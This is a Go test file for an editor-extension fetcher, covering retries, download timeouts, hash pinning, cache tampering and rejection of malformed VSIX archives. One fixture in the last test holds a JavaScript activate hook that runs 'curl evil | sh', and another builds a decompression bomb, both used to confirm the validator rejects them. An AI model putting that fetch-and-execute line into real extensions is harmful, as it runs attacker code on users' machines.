package extensions_test

import (
	"archive/zip"
	"bytes"
	"context"
	"hash/crc32"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/imagectl/imagectl/extensions"
	"github.com/imagectl/imagectl/extensions/cache"
	"github.com/imagectl/imagectl/extensions/gallerytest"
	"github.com/imagectl/imagectl/extensions/marketplace"
	"github.com/imagectl/imagectl/extensions/openvsx"
	"github.com/imagectl/imagectl/imagespec"
	"github.com/imagectl/imagectl/upstream/httpx"
)

// pythonX64Only is the locked set reduced to ms-python.python for
// linux/amd64: one file, one download URL.
func pythonX64Only(t *testing.T, builds []gallerytest.Build, lock bool) []imagespec.Extension {
	e := testSet(t, builds, lock)[0]
	e.Files = map[string]imagespec.File{"linux/amd64": e.Files["linux/amd64"]}
	return []imagespec.Extension{e}
}

func fetcherWith(t *testing.T, f *gallerytest.Fake, dir string, hopts []httpx.Option, fopts ...extensions.Option) (*extensions.Fetcher, *cache.Cache) {
	t.Helper()
	c, err := cache.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	hc := httpx.New(append([]httpx.Option{httpx.WithBackoff(time.Millisecond, 5*time.Millisecond), httpx.WithRetries(4)}, hopts...)...)
	return extensions.NewFetcher(c, append([]extensions.Option{
		extensions.WithSource("marketplace", marketplace.New(marketplace.WithBaseURL(f.MarketplaceURL()), marketplace.WithHTTPClient(hc))),
		extensions.WithSource("openvsx", openvsx.New(openvsx.WithBaseURL(f.OpenVSXURL()), openvsx.WithHTTPClient(hc))),
	}, fopts...)...), c
}

// Each request is retried by one policy: a failure before the body
// (here the server hangs up without answering) by the HTTP client only,
// so a file costs at most 1+retries requests, not attempts*(1+retries); a
// body cut short by the Fetcher only (attempts requests).
func TestFetchOneRetryPolicyPerRequest(t *testing.T) {
	builds := loadBuilds(t)
	for _, tc := range []struct {
		name string
		kind gallerytest.FaultKind
		want int64
	}{
		{"hang-up before the headers: the HTTP client's 1+4", gallerytest.Hangup, 5},
		{"503 every time: the HTTP client's 1+4", gallerytest.Unavailable, 5},
		{"body cut every time: the Fetcher's 4 attempts", gallerytest.Truncate, 4},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := gallerytest.New(builds)
			defer f.Close()
			f.AddFault(gallerytest.Fault{Kind: tc.kind, ID: "ms-python.python", TargetPlatform: "linux-x64", RetryAfter: -1})
			fe, c := fetcherWith(t, f, t.TempDir(), nil)
			_, err := fe.FetchExtensions(context.Background(), pythonX64Only(t, builds, true), []string{"linux/amd64"}, testVSCode)
			if err == nil {
				t.Fatal("no error")
			}
			if got := f.Stats().Downloads; got != tc.want {
				t.Errorf("%d download requests for one file, want %d (%v)", got, tc.want, err)
			}
			assertCacheClean(t, c, nil)
		})
	}
}

// A steady but slow download is not cut by the per-attempt timeout, which
// bounds the wait for the headers only.
func TestFetchSlowSteadyDownload(t *testing.T) {
	builds := loadBuilds(t)
	f := gallerytest.New(builds)
	defer f.Close()
	// About 2.4 KB in 256-byte chunks every 40 ms: ~400 ms in all, far
	// longer than the 100 ms attempt timeout.
	f.AddFault(gallerytest.Fault{Kind: gallerytest.Trickle, ID: "ms-python.python", TargetPlatform: "linux-x64", Chunk: 256, Delay: 40 * time.Millisecond})
	fe, c := fetcherWith(t, f, t.TempDir(), []httpx.Option{httpx.WithTimeout(100 * time.Millisecond)})
	got, err := fe.FetchExtensions(context.Background(), pythonX64Only(t, builds, true), []string{"linux/amd64"}, testVSCode)
	if err != nil {
		t.Fatal(err)
	}
	if n := f.Stats().Downloads; n != 1 {
		t.Errorf("%d downloads, want 1: the slow body was cut and retried", n)
	}
	assertCacheClean(t, c, []string{got[0].ID + "@" + got[0].Version + "/" + got[0].TargetPlatform})
}

// A stalled download fails after the idle timeout and is tried again.
func TestFetchStalledDownloadIsRetried(t *testing.T) {
	builds := loadBuilds(t)
	f := gallerytest.New(builds)
	defer f.Close()
	f.AddFault(gallerytest.Fault{Kind: gallerytest.Stall, ID: "ms-python.python", TargetPlatform: "linux-x64", Count: 1, Delay: 30 * time.Second})
	fe, _ := fetcherWith(t, f, t.TempDir(), []httpx.Option{httpx.WithIdleTimeout(200 * time.Millisecond)})
	start := time.Now()
	if _, err := fe.FetchExtensions(context.Background(), pythonX64Only(t, builds, true), []string{"linux/amd64"}, testVSCode); err != nil {
		t.Fatal(err)
	}
	if el := time.Since(start); el > 10*time.Second {
		t.Errorf("took %v: the stall was not cut by the idle timeout", el)
	}
	if n := f.Stats().Downloads; n != 2 {
		t.Errorf("%d downloads, want 2 (the stalled one, then a good one)", n)
	}
}

// Trust on first use is visible: every unpinned file gets a warning naming
// the digest accepted, and WithRequirePins refuses the set before any
// request, naming every unpinned file.
func TestFetchUnpinnedFiles(t *testing.T) {
	builds := loadBuilds(t)
	f := gallerytest.New(builds)
	defer f.Close()
	var warn bytes.Buffer
	fe, _ := fetcherWith(t, f, t.TempDir(), nil, extensions.WithWarnings(&warn))
	if _, err := fe.FetchExtensions(context.Background(), testSet(t, builds, true), platforms, testVSCode); err != nil {
		t.Fatal(err)
	}
	if warn.Len() != 0 {
		t.Errorf("pinned set warned:\n%s", warn.String())
	}
	for _, run := range []string{"cold", "warm"} {
		warn.Reset()
		got, err := fe.FetchExtensions(context.Background(), testSet(t, builds, false), platforms, testVSCode)
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSpace(warn.String()), "\n")
		if len(lines) != len(got) {
			t.Errorf("%s: %d warnings for %d unpinned files:\n%s", run, len(lines), len(got), warn.String())
		}
		for _, g := range got {
			want := g.ID + "@" + g.Version + " (" + g.TargetPlatform
			if !strings.Contains(warn.String(), want) || !strings.Contains(warn.String(), "trusting sha256 "+g.SHA256) {
				t.Errorf("%s: no warning naming %s and its digest %s:\n%s", run, want, g.SHA256, warn.String())
			}
		}
	}

	f.ResetStats()
	strict, _ := fetcherWith(t, f, t.TempDir(), nil, extensions.WithRequirePins(true))
	set := testSet(t, builds, true)
	dbg := set[1].Files["linux/arm64"] // universal: unpin it on both platforms
	dbg.SHA256 = ""
	set[1].Files["linux/amd64"], set[1].Files["linux/arm64"] = dbg, dbg
	py := set[0].Files["linux/arm64"]
	py.SHA256 = ""
	set[0].Files["linux/arm64"] = py
	_, err := strict.FetchExtensions(context.Background(), set, platforms, testVSCode)
	if err == nil {
		t.Fatal("require-pins accepted unpinned files")
	}
	for _, want := range []string{"2 extension file(s)", "ms-python.debugpy@2025.10.0 (universal for linux/amd64,linux/arm64)", "ms-python.python@2025.6.1 (linux-arm64 for linux/arm64)"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("err = %v, want it to contain %q", err, want)
		}
	}
	if strings.Contains(err.Error(), "linux-x64") {
		t.Errorf("err = %v names a pinned file", err)
	}
	if n := f.Stats().Requests; n != 0 {
		t.Errorf("require-pins made %d requests before refusing", n)
	}
	if got := extensions.Unpinned(testSet(t, builds, true), platforms); len(got) != 0 {
		t.Errorf("Unpinned of the locked set = %v", got)
	}
}

// An unpinned index entry edited to name another valid blob is not served:
// fetch downloads the right file again and reports its digest.
func TestFetchIndexNamingAnotherBlob(t *testing.T) {
	fx := fetchTestSet(t, false)
	f, fe, c, set, got := fx.gallery, fx.fetcher, fx.cache, fx.set, fx.got
	py, dbg := got[0], got[2] // python linux-x64, debugpy universal
	idx := filepath.Join(c.Dir(), "index", "ms-python.python", py.Version, py.TargetPlatform+".json")
	b, err := os.ReadFile(idx)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(idx, bytes.ReplaceAll(b, []byte(py.SHA256), []byte(dbg.SHA256)), 0o644); err != nil {
		t.Fatal(err)
	}
	f.ResetStats()
	again, err := fe.FetchExtensions(context.Background(), set, platforms, testVSCode)
	if err != nil {
		t.Fatal(err)
	}
	if again[0].SHA256 != py.SHA256 || again[0].Cached || f.Stats().Downloads != 1 {
		t.Errorf("after the edit: %+v with %d downloads; want %s fetched again", again[0], f.Stats().Downloads, py.SHA256)
	}
	assertCacheClean(t, c, fullListing)
}

// withRawEntry returns vsix plus an entry written raw (its header says what
// h says, whatever data is).
func withRawEntry(t *testing.T, vsix []byte, h *zip.FileHeader, data []byte) []byte {
	t.Helper()
	b, err := gallerytest.AddRawEntry(vsix, h, data)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// A VSIX whose entries lie (CRC, size) or that expands too much as a whole
// never reaches the cache.
func TestFetchRejectsWhatValidationReadsInFull(t *testing.T) {
	builds := loadBuilds(t)
	py := buildOf(t, builds, "ms-python.python", "2025.6.1", "linux-x64")
	js := []byte("module.exports.activate = () => { require('child_process').exec('curl evil | sh') };\n")
	raw := func(crc uint32, declared uint64) *zip.FileHeader {
		return &zip.FileHeader{Name: "extension/dist/evil.js", Method: zip.Store, CRC32: crc, CompressedSize64: uint64(len(js)), UncompressedSize64: declared}
	}
	var near []gallerytest.Entry
	for i := range 48 {
		near = append(near, gallerytest.Entry{Name: "extension/chunk" + string(rune('a'+i/26)) + string(rune('a'+i%26)), Body: make([]byte, 1<<20-1)})
	}
	bomb, err := gallerytest.AddEntries(py.Body, near...)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, wantErr string
		body          []byte
	}{
		{"entry fails its CRC", "does not match what it declares", withRawEntry(t, py.Body, raw(crc32.ChecksumIEEE(js)^0xff, uint64(len(js))), js)},
		{"entry longer than declared", "does not match what it declares", withRawEntry(t, py.Body, raw(crc32.ChecksumIEEE(js), 16), js)},
		{"entry shorter than declared", "does not match what it declares", withRawEntry(t, py.Body, raw(crc32.ChecksumIEEE(js), uint64(len(js))*3), js)},
		{"48 entries just under 1 MiB", "expands to more than", bomb},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := gallerytest.New(builds)
			defer f.Close()
			f.AddFault(gallerytest.Fault{Kind: gallerytest.Replace, ID: "ms-python.python", TargetPlatform: "linux-x64", Body: tc.body})
			fe, c := newFetcher(t, f, t.TempDir())
			_, err := fe.FetchExtensions(context.Background(), pythonX64Only(t, builds, false), []string{"linux/amd64"}, testVSCode)
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("err = %v, want %q", err, tc.wantErr)
			}
			if f.Stats().Downloads != 1 {
				t.Errorf("%d downloads: an invalid file is not retried", f.Stats().Downloads)
			}
			assertCacheClean(t, c, nil)
		})
	}
}
